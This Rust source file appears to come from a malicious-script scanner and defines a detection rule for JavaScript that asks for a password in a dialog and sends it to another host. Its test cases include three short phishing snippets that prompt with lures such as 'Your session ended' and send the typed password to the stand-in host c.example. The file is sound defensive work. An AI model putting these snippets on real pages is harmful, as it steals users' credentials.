//! `asked-password-in-address`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::stream::Kind;
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "asked-password-in-address",
    description: "The script asks for a password in a dialog box and sends it to another host in a URL.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::SecretField, Atom::SecretWord])],
    within: 0,
    only_if: Some(carries),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "var p=prompt('Your session ended. Password:');if(p){new Image().src='http://c.example/?p='+encodeURIComponent(p)}",
            "const u=prompt('User'),p=prompt('Password');new Image().src=`http://c.example/l?u=${u}&p=${p}`",
            "let w=window.prompt('Enter your password again');fetch('//c.example/k?'+w)",
        ],
        without: &[
            "var p=prompt('Password of the album');if(p)location.href='https://album.example/v?key='+encodeURIComponent(p)",
            "var p=prompt('Room password');fetch('/rooms?p='+encodeURIComponent(p)).then(enter)",
            "var p=prompt('Password');fetch('https://api.example/unlock',{method:'POST',body:JSON.stringify({p})}).then(enter)",
            "var p=prompt('Name');new Image().src='http://c.example/?p='+p;label.textContent='Password'",
        ],
    },
};

fn carries(evidence: &Evidence<'_>, held: Held) -> bool {
    let at = held.last as usize;
    let near = Near::new(evidence, held, 70);
    if near.before(at, 2) != "prompt" || !near.is(at.wrapping_sub(1), b'(') {
        return false;
    }
    let set = (at.saturating_sub(6)..at).rev().find(|at| near.is(*at, b'='));
    let Some(name) = set.map(|set| set.wrapping_sub(1)).filter(|at| near.kind(*at) == Some(Kind::Name))
    else {
        return false;
    };
    let after = near.among(at..at + 70);
    after.places().any(|to| {
        let abroad = near.text_at(to).is_some_and(|text| {
            text.contains('?') && ["https://", "http://", "//"].iter().any(|start| text.starts_with(start))
        });
        // Who is led there sees where the password went.
        let is_led = near.is(to.wrapping_sub(1), b'=') && matches!(near.before(to, 2), "href" | "location")
            || matches!(near.before(to, 2), "assign" | "replace");
        abroad
            && !is_led
            && (to + 1..to + 10)
                .any(|at| near.kind(at) == Some(Kind::Name) && near.word(at) == near.word(name))
    })
}
